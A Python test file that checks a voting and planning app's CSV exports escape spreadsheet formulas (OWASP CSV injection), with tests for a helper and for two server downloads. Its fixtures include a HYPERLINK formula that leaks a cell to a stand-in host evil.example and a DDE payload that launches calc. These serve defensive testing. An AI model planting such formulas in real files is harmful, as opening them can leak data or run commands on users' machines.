"""No CSV the product writes carries a live spreadsheet formula (OWASP "CSV Injection").

The helper on its own, then the two CSV downloads through the real server: the audit CSV of
a round whose option labels are formulas, and the economy CSV with formula sector names.
"""

from __future__ import annotations

import csv
import io

import pytest

from councilcast import csvsafe
from tests.voting.helpers import new_round, register, tally

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cell_neutralises_text_and_leaves_numbers():
    for f in FORMULAS:
        assert csvsafe.cell(f) == "'" + f
    for text in ("Steel", "A", "", "x=1", "1-2", "'quoted"):
        assert csvsafe.cell(text) == text
    for number in (-1.5, -1, 0, 2.5e-07, float("-inf"), True):
        assert csvsafe.cell(number) is number
    assert csvsafe.cell(None) is None


def test_writer_writes_numbers_as_before_and_text_safely():
    out = io.StringIO()
    csvsafe.writer(out).writerow(["-1.5", -1.5, 1e-05, 3, "=1+1", 'say "hi", then =2', None])
    plain = io.StringIO()
    csv.writer(plain).writerow(["'-1.5", repr(-1.5), repr(1e-05), 3, "'=1+1", 'say "hi", then =2', None])
    assert out.getvalue() == plain.getvalue() == "'-1.5,-1.5,1e-05,3,'=1+1,\"say \"\"hi\"\", then =2\",\r\n"
    # a spreadsheet reads back: a text cell starting with a quote, the numbers as numbers
    assert rows_of(out.getvalue())[0][:5] == ["'-1.5", "-1.5", "1e-05", "3", "'=1+1"]


async def test_audit_csv_has_no_formula_cells(server):
    options = [FORMULAS[0], "@SUM(A1:A9)", "-1", "keep"]
    ga = await register(server, "=cmd|' /C calc'!A0", 50)
    rnd = await new_round(server, options=options, duration_s=30)
    st, body = await tally(server, rnd["id"], ga["token"], {"present": 40, "abstain": 1,
                                                            "counts": {o: 10 if o != "keep" else 9 for o in options}})
    assert st == 201, body
    async with server.session.post(server.api(f"/api/rounds/{rnd['id']}/close"), headers=server.secretariat) as r:
        assert r.status == 200, await r.text()
    async with server.session.get(server.api(f"/api/rounds/{rnd['id']}/audit"), params={"format": "csv"}) as r:
        assert r.status == 200 and r.content_type == "text/csv"
        rows = rows_of(await r.text())
    header, records = rows[0], rows[1:]
    assert header[5:9] == ["'" + FORMULAS[0], "'@SUM(A1:A9)", "'-1", "keep"]
    assert len(records) == 1
    rec = dict(zip(header, records[0]))
    # the numbers are plain numbers, not text
    assert [rec["present"], rec["abstain"], rec["version"]] == ["40", "1", "1"]
    assert [rec["'" + FORMULAS[0]], rec["keep"]] == ["10", "9"]
    for row in rows:
        for c in row:
            assert not c.startswith(csvsafe.FORMULA_PREFIXES), c


async def test_economy_csv_has_no_formula_cells_and_keeps_its_numbers(server):
    names = ["=1+1", "@SUM(A1)", "-steel", "grain"]
    economy = {"sectors": names,
               "technical_coefficients": [[0.1, 0.0, 0.0, 0.0], [0.0, 0.1, 0.0, 0.0], [0.0, 0.0, 0.1, 0.0],
                                          [0.0, 0.0, 0.0, 0.1]],
               "labour": [0.5, 1.5, 2.5e-07, 1e-05], "capacity": [1300, 1900.25, 7, 0.1]}
    async with server.session.put(server.api("/api/plan/economy"), json=economy, headers=server.secretariat) as r:
        assert r.status == 200, await r.text()
    async with server.session.get(server.api("/api/plan/economy.csv")) as r:
        assert r.status == 200
        text = await r.text()
    rows = rows_of(text)
    assert rows[0] == ["name", "labour", "capacity"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'@SUM(A1)", "'-steel", "grain"]
    # every number cell is repr(float) of its value, as before the change
    assert [r[1:] for r in rows[1:]] == [[repr(float(a)), repr(float(b))]
                                         for a, b in zip(economy["labour"], economy["capacity"])]
    assert all(not c.startswith(csvsafe.FORMULA_PREFIXES) for r in rows for c in r)


@pytest.mark.parametrize("label", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_each_prefix_of_owasp_is_neutralised(label):
    out = io.StringIO()
    csvsafe.writer(out).writerow([label])
    assert rows_of(out.getvalue())[0][0] == "'" + label
